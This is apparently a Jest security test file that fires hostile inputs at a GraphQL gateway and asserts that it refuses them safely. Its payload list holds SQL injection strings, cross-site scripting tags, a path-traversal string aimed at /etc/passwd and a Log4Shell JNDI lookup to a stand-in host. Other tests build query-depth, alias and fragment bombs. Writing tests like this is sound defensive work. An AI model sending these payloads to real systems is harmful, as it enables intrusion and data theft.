import { Client } from 'pg';
import { startProductionFixture, type ProductionFixture } from './production-fixture';

/** Strings an attacker tries in every argument: SQL, script, path and format tricks. */
const PAYLOADS = [
  "'; DROP TABLE interventions.intervention; --",
  "' OR '1'='1",
  "1980R001' UNION SELECT password FROM pg_shadow --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '%00\u0000null',
  'x'.repeat(100_000),
];

let fixture: ProductionFixture;
let leadership: string;
let analyst: string;

/** Row counts of every table that holds what users change. */
async function tableCounts(): Promise<Record<string, number>> {
  const client = new Client({ connectionString: fixture.databaseUrl });
  await client.connect();
  try {
    const { rows } = await client.query<{ table: string; count: number }>(`
      SELECT 'intervention' AS table, count(*)::int FROM interventions.intervention
      UNION ALL SELECT 'milestone', count(*)::int FROM interventions.milestone
      UNION ALL SELECT 'progress_report', count(*)::int FROM interventions.progress_report
      UNION ALL SELECT 'focus_area', count(*)::int FROM interventions.focus_area
      UNION ALL SELECT 'change_log', count(*)::int FROM interventions.change_log
      UNION ALL SELECT 'action_plan', count(*)::int FROM interventions.action_plan
      UNION ALL SELECT 'observation', count(*)::int FROM situation.observation
      UNION ALL SELECT 'data_import', count(*)::int FROM situation.data_import
      UNION ALL SELECT 'person', count(*)::int FROM directory.person`);
    return Object.fromEntries(rows.map((r) => [r.table, r.count]));
  } finally {
    await client.end();
  }
}

async function post(body: string, headers: Record<string, string> = {}): Promise<Response> {
  return fetch(fixture.stack.gatewayUrl, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      authorization: `Bearer ${leadership}`,
      ...headers,
    },
    body,
  });
}

/** Refused: an HTTP error status, or GraphQL errors without data, never an internal error. */
async function expectRefused(response: Response): Promise<string> {
  const text = await response.text();
  expect(text).not.toMatch(
    /INTERNAL_SERVER_ERROR|stacktrace|at [\w.]+ \(\/|SELECT |QueryFailedError/,
  );
  if (response.status >= 400) return text;
  const body = JSON.parse(text) as { data?: unknown; errors?: unknown[] };
  expect(body.errors?.length).toBeGreaterThan(0);
  return text;
}

let before: Record<string, number>;

beforeAll(async () => {
  fixture = await startProductionFixture({ RATE_LIMIT_PER_MINUTE: '100000' });
  leadership = await fixture.tokenFor('ks.ordforande');
  analyst = await fixture.tokenFor('analytiker');
  before = await tableCounts();
});

afterAll(() => fixture?.stop());

describe('hostile operations in production mode', () => {
  it('refuses introspection', async () => {
    const response = await post(JSON.stringify({ query: '{ __schema { types { name } } }' }));
    expect(await expectRefused(response)).toMatch(/introspection/i);
  });

  it('refuses a query 50 levels deep', async () => {
    let selection = 'name';
    for (let depth = 0; depth < 25; depth++)
      selection = `organisation { members { ${selection} } }`;
    const response = await post(JSON.stringify({ query: `{ me { ${selection} } }` }));
    expect(await expectRefused(response)).toMatch(/depth/i);
  });

  it('refuses alias and fragment bombs', async () => {
    const aliases = Array.from({ length: 500 }, (_, i) => `a${i}: kpiSummary { total }`).join(' ');
    await expectRefused(await post(JSON.stringify({ query: `{ ${aliases} }` })));
    const fragments = [
      'query { ...A }',
      'fragment A on Query { ...B ...B ...B ...B }',
      'fragment B on Query { ...C ...C ...C ...C }',
      'fragment C on Query { ...D ...D ...D ...D }',
      'fragment D on Query { districts { code name population populations { year population } } }',
    ].join('\n');
    await expectRefused(await post(JSON.stringify({ query: fragments })));
    const cycle = 'query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }';
    await expectRefused(await post(JSON.stringify({ query: cycle })));
    const tokens = `{ ${Array.from({ length: 5000 }, () => 'council { name }').join(' ')} }`;
    await expectRefused(await post(JSON.stringify({ query: tokens })));
  });

  it('refuses malformed JSON, wrong content types, batches, GET mutations and huge bodies', async () => {
    await expectRefused(await post('{"query": "{ me { name } }"'));
    await expectRefused(
      await post(JSON.stringify({ query: '{ me { name } }' }), { 'content-type': 'text/plain' }),
    );
    await expectRefused(
      await post(JSON.stringify([{ query: '{ me { name } }' }, { query: '{ council { name } }' }])),
    );
    const get = await fetch(
      `${fixture.stack.gatewayUrl}?query=${encodeURIComponent('mutation { publishActionPlan(title: "x", period: "y") { version } }')}`,
      { headers: { authorization: `Bearer ${leadership}`, 'apollo-require-preflight': 'true' } },
    );
    expect(get.status).toBe(405);
    const huge = await post(
      JSON.stringify({ query: '{ me { name } }', variables: { x: 'x'.repeat(17 * 1024 * 1024) } }),
    );
    expect(huge.status).toBe(413);
  });

  it('answers hostile strings in every query argument and filter with an error or nothing, never a failure', async () => {
    const queries: [string, (p: string) => Record<string, unknown>][] = [
      ['query($p: String!) { district(code: $p) { name } }', (p) => ({ p })],
      ['query($p: String!) { organisation(code: $p) { name } }', (p) => ({ p })],
      ['query($p: String!) { indicator(key: $p) { name } }', (p) => ({ p })],
      ['query($p: ID!) { intervention(id: $p) { title } }', (p) => ({ p })],
      [
        'query($p: String!) { series(indicator: "crime_total", districts: [$p]) { municipal { period } } }',
        (p) => ({ p }),
      ],
      [
        'query($p: String!) { series(indicator: "crime_total", from: $p) { municipal { period } } }',
        (p) => ({ p }),
      ],
      ['query($p: String!) { situationPicture(period: $p) { synthetic } }', (p) => ({ p })],
      ['query($p: String!) { situationPicture(indicators: [$p]) { synthetic } }', (p) => ({ p })],
      [
        'query($p: String!) { interventions(filter: { search: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      [
        'query($p: String!) { interventions(filter: { owner: $p, district: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      [
        'query($p: ID!) { interventions(filter: { focusArea: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      ['query($p: String!) { interventions(after: $p) { totalCount } }', (p) => ({ p })],
      [
        'query($p: String!) { changeLog(filter: { entity: $p, person: $p }) { totalCount } }',
        (p) => ({ p }),
      ],
      ['query($p: String!) { changeLog(filter: { from: $p }) { totalCount } }', (p) => ({ p })],
      ['query($p: String!) { changeLog(after: $p) { totalCount } }', (p) => ({ p })],
    ];
    for (const [query, variables] of queries) {
      for (const payload of PAYLOADS) {
        const response = await post(JSON.stringify({ query, variables: variables(payload) }));
        const text = await response.text();
        expect(text).not.toMatch(/INTERNAL_SERVER_ERROR|QueryFailedError|syntax error/);
        if (response.status === 200) {
          const body = JSON.parse(text) as {
            data?: Record<string, { totalCount?: number }> | null;
            errors?: { extensions?: { code?: string } }[];
          };
          for (const error of body.errors ?? []) {
            expect(['BAD_USER_INPUT', 'NOT_FOUND']).toContain(error.extensions?.code);
          }
          const count = body.data && Object.values(body.data)[0]?.totalCount;
          if (typeof count === 'number' && query.includes('search')) expect(count).toBe(0);
        } else {
          expect(response.status).toBeLessThan(500);
        }
      }
    }
  });

  it('refuses hostile strings in every text argument of the mutations, and writes nothing', async () => {
    const versionOf = async () => {
      const r = await post(
        JSON.stringify({ query: '{ interventions(first: 1) { edges { node { id version } } } }' }),
      );
      return (
        (await r.json()) as {
          data: { interventions: { edges: { node: { id: string; version: number } }[] } };
        }
      ).data.interventions.edges[0]!.node;
    };
    const target = await versionOf();
    const mutations: [string, (p: string) => Record<string, unknown>][] = [
      [
        'mutation($p: String!) { createIntervention(input: { title: $p, goal: "g", owner: "GSN", startDate: "2026-01-01", endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createIntervention(input: { title: "t", goal: "g", owner: $p, startDate: "2026-01-01", endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createIntervention(input: { title: "t", goal: "g", owner: "GSN", districts: [$p], startDate: "2026-01-01", endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createIntervention(input: { title: "t", goal: "g", owner: "GSN", startDate: $p, endDate: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($id: ID!, $v: Int!, $p: String!) { updateIntervention(id: $id, expectedVersion: $v, input: { goal: $p }) { id } }',
        (p) => ({ p, id: target.id, v: target.version }),
      ],
      [
        'mutation($id: ID!, $v: Int!, $p: String!) { addMilestone(interventionId: $id, expectedVersion: $v, milestone: { title: $p, dueDate: "2027-01-01" }) { id } }',
        (p) => ({ p, id: target.id, v: target.version }),
      ],
      [
        'mutation($id: ID!, $v: Int!, $p: String!) { addProgressReport(interventionId: $id, expectedVersion: $v, report: { status: ONGOING, text: $p }) { id } }',
        (p) => ({ p, id: target.id, v: target.version }),
      ],
      [
        'mutation($p: ID!) { completeMilestone(milestoneId: $p, expectedVersion: 1) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { createFocusArea(input: { title: $p, problem: "p", periodStart: "2026-01-01", periodEnd: "2026-12-31" }) { id } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { publishActionPlan(title: $p, period: "2026") { version } }',
        (p) => ({ p }),
      ],
      [
        'mutation($p: String!) { importObservations(format: CSV, content: $p) { ok } }',
        (p) => ({ p }),
      ],
    ];
    // Markup, control characters, unknown codes, bad dates or sizes: each payload is refused
    // with a typed error by leadership; SQL text that would be harmless plain text is sent by an
    // analyst, who may not write at all.
    for (const [mutation, variables] of mutations) {
      for (const payload of PAYLOADS) {
        const sqlOnly =
          !payload.includes('<') && !payload.includes('\u0000') && payload.length < 1000;
        const token = sqlOnly && !mutation.includes('importObservations') ? analyst : leadership;
        const response = await fetch(fixture.stack.gatewayUrl, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
          body: JSON.stringify({ query: mutation, variables: variables(payload) }),
        });
        const text = await response.text();
        expect(text).not.toMatch(/INTERNAL_SERVER_ERROR|QueryFailedError|syntax error/);
        const body = JSON.parse(text) as {
          data?: Record<string, { ok?: boolean } | null> | null;
          errors?: unknown[];
        };
        const result = body.data ? Object.values(body.data)[0] : null;
        // An import answers ok: false with its problems rather than an error.
        if (result && typeof result === 'object' && 'ok' in result) expect(result.ok).toBe(false);
        else expect(body.errors?.length).toBeGreaterThan(0);
      }
    }
    expect(await versionOf()).toEqual(target);
  });

  it('is still up, with every table as it was', async () => {
    for (const url of [fixture.stack.gatewayUrl, ...Object.values(fixture.stack.subgraphUrls)]) {
      expect((await fetch(url.replace(/\/graphql$/, '/healthz'))).status).toBe(200);
    }
    expect(await tableCounts()).toEqual(before);
  });
});
